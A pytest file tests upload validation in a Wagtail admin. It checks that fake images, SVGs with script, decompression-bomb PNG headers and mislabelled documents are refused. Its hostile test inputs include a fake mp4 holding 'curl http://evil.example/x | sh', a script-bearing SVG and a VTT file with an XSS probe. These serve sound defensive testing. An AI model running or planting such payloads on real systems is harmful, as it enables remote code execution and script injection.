"""Uploads through the Wagtail admin are checked for what they really are, not their names.

A content editor uploads through the same views a browser uses. Refused files leave
nothing behind; each refusal says why in words an editor understands.
"""

import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection

from localoffer.uploads import check_upload_content

Image = get_image_model()
Document = get_document_model()


def png_bytes(width: int = 40, height: int = 30, *, noise: bool = False) -> bytes:
    image = PILImage.new("RGB", (width, height), "orange")
    if noise:
        image = PILImage.frombytes("RGB", (width, height), _pseudo_random(width * height * 3))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def _pseudo_random(length: int) -> bytes:
    # Deterministic bytes that PNG cannot compress much, so a small picture is a big file.
    out = bytearray()
    state = 12345
    for _ in range(length):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append(state >> 16 & 0xFF)
    return bytes(out)


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header says it is width x height (a decompression bomb's shape)."""
    data = bytearray(png_bytes(1, 1))
    # The IHDR chunk follows the 8-byte signature: length (4), type (4), then width and height.
    ihdr_start = 8 + 4
    ihdr = bytearray(data[ihdr_start : ihdr_start + 4 + 13])
    ihdr[4:12] = struct.pack(">II", width, height)
    data[ihdr_start : ihdr_start + 4 + 13] = ihdr
    crc_at = ihdr_start + 4 + 13
    data[crc_at : crc_at + 4] = struct.pack(">I", zlib.crc32(bytes(ihdr)) & 0xFFFFFFFF)
    return bytes(data)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/admin/').then(r => r.text())</script></svg>"
)
MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 200
WEBVTT = b"WEBVTT\n\n00:00.000 --> 00:02.500\nWelcome to the club.\n"


@pytest.fixture
def editor(client_for):
    return client_for("content_editor")


@pytest.fixture
def root_collection(db):
    return Collection.get_first_root_node()


def upload_image(client, collection, name: str, content: bytes, content_type="image/png"):
    return client.post(
        reverse("wagtailimages:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": collection.pk,
        },
    )


def upload_document(client, collection, name: str, content: bytes, content_type="text/plain"):
    return client.post(
        reverse("wagtaildocs:add"),
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": collection.pk,
        },
    )


def file_errors(response) -> list[str]:
    assert response.status_code == 200, "a refused upload shows the form again"
    return [str(error) for error in response.context["form"].errors.get("file", [])]


# --- images -------------------------------------------------------------------------------


def test_a_real_png_is_accepted(editor, root_collection):
    response = upload_image(editor, root_collection, "ramp.png", png_bytes())
    assert response.status_code == 302
    image = Image.objects.get(title="ramp.png")
    assert (image.width, image.height) == (40, 30)


def test_a_text_file_named_jpg_is_refused(editor, root_collection):
    response = upload_image(
        editor, root_collection, "photo.jpg", b"just some words, not a picture\n", "image/jpeg"
    )
    errors = file_errors(response)
    assert errors and "not an image or a corrupted image" in errors[0]
    assert not Image.objects.exists()


def test_an_svg_is_refused(editor, root_collection):
    response = upload_image(editor, root_collection, "logo.svg", SVG_WITH_SCRIPT, "image/svg+xml")
    errors = file_errors(response)
    assert errors and errors[0].startswith("Not a supported image format.")
    assert not Image.objects.exists()


def test_an_svg_named_png_is_refused(editor, root_collection):
    response = upload_image(editor, root_collection, "logo.png", SVG_WITH_SCRIPT)
    assert file_errors(response)
    assert not Image.objects.exists()


@override_settings(WAGTAILIMAGES_MAX_UPLOAD_SIZE=2_000)
def test_an_image_over_the_size_limit_is_refused(editor, root_collection):
    content = png_bytes(60, 60, noise=True)
    assert len(content) > 2_000
    errors = file_errors(upload_image(editor, root_collection, "big.png", content))
    assert errors and errors[0].startswith("This file is too big")
    assert not Image.objects.exists()


def test_a_decompression_bomb_header_is_refused(editor, root_collection):
    bomb = png_claiming(20_000, 20_000)
    assert len(bomb) < 200
    assert struct.unpack(">II", bomb[16:24]) == (20_000, 20_000)  # what the header claims
    errors = file_errors(upload_image(editor, root_collection, "bomb.png", bomb))
    assert errors == ["This file has too many pixels (unknown number). Maximum pixels 40000000."]
    assert not Image.objects.exists()


@override_settings(WAGTAILIMAGES_MAX_IMAGE_PIXELS=1_000)
def test_an_image_with_too_many_pixels_is_refused(editor, root_collection):
    errors = file_errors(upload_image(editor, root_collection, "wide.png", png_bytes(50, 40)))
    assert errors and "too many pixels" in errors[0]
    assert not Image.objects.exists()


def test_the_multiple_upload_view_refuses_a_fake_image(editor, root_collection):
    response = editor.post(
        reverse("wagtailimages:add_multiple"),
        {
            "collection": root_collection.pk,
            "files[]": SimpleUploadedFile("photo.jpg", b"not a picture", "image/jpeg"),
        },
    )
    assert response.json()["success"] is False
    assert not Image.objects.exists()


# --- documents ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leaflet.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
        ("clip.mp4", MP4_HEAD),
        ("clip.vtt", WEBVTT),
        ("notes.txt", "Notes for parents: £5 a session.\n".encode()),
    ],
)
def test_real_documents_are_accepted(editor, root_collection, name, content):
    response = upload_document(editor, root_collection, name, content)
    assert response.status_code == 302, response.context["form"].errors
    assert Document.objects.get(title=name).file_extension == name.rsplit(".", 1)[1]


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        (
            "clip.mp4",
            b"#!/bin/sh\ncurl http://evil.example/x | sh\n",
            "The file is not a real .mp4 file. Check it and upload it again.",
        ),
        (
            "clip.webm",
            MP4_HEAD,
            "The file is not a real .webm file. Check it and upload it again.",
        ),
        (
            "leaflet.pdf",
            b"<html><body>Not a PDF</body></html>",
            "The file is not a real .pdf file. Check it and upload it again.",
        ),
        (
            "captions.vtt",
            b"1\n00:00:00,000 --> 00:00:02,500\nAn SRT file, not WebVTT\n",
            "A captions file must be WebVTT: its first line must be WEBVTT",
        ),
        (
            "captions.vtt",
            b"WEBVTT\n\n<script>alert(1)</script>\n",
            "The file must be plain text, not a web page or program",
        ),
        ("notes.txt", b"\xff\xfe\x00\x00binary", "The file must be plain text (UTF-8)"),
        ("empty.pdf", b"", None),
    ],
)
def test_documents_that_are_not_what_they_say_are_refused(
    editor, root_collection, name, content, message
):
    errors = file_errors(upload_document(editor, root_collection, name, content))
    assert errors
    if message:
        assert errors == [message]
    assert not Document.objects.exists()


def test_a_document_type_not_on_the_list_is_refused(editor, root_collection):
    errors = file_errors(upload_document(editor, root_collection, "page.html", b"<p>hi</p>"))
    assert errors
    assert not Document.objects.exists()


def test_the_multiple_upload_view_runs_the_same_check(editor, root_collection):
    response = editor.post(
        reverse("wagtaildocs:add_multiple"),
        {
            "collection": root_collection.pk,
            "files[]": SimpleUploadedFile("clip.mp4", b"#!/bin/sh\necho hi\n", "video/mp4"),
        },
    )
    data = response.json()
    assert data["success"] is False
    assert "not a real .mp4 file" in data["error_message"]
    assert not Document.objects.exists()


def test_replacing_a_documents_file_is_checked(editor, root_collection):
    upload_document(editor, root_collection, "clip.vtt", WEBVTT)
    document = Document.objects.get()
    response = editor.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {
            "title": "clip.vtt",
            "file": SimpleUploadedFile("clip.vtt", b"not captions", "text/vtt"),
            "collection": root_collection.pk,
        },
    )
    assert file_errors(response) == [
        "A captions file must be WebVTT: its first line must be WEBVTT"
    ]
    document.refresh_from_db()
    assert document.file.read().startswith(b"WEBVTT")


@override_settings(WAGTAILDOCS_MAX_UPLOAD_SIZE=1_000)
def test_a_document_over_the_size_limit_is_refused(editor, root_collection):
    errors = file_errors(upload_document(editor, root_collection, "clip.vtt", WEBVTT * 30))
    assert len(errors) == 1  # and not also 'File extension "" is not allowed'
    assert errors[0].startswith("This file is too big")
    assert not Document.objects.exists()


# --- the check itself ---------------------------------------------------------------------


def test_check_reads_the_start_of_the_file_and_rewinds_it():
    upload = SimpleUploadedFile("clip.mp4", MP4_HEAD, "video/mp4")
    upload.read(5)
    check_upload_content(upload, ".MP4")
    assert upload.tell() == 0


def test_check_refuses_an_unknown_extension():
    with pytest.raises(Exception, match="not accepted"):
        check_upload_content(SimpleUploadedFile("x.exe", b"MZ\x90\x00"), "exe")
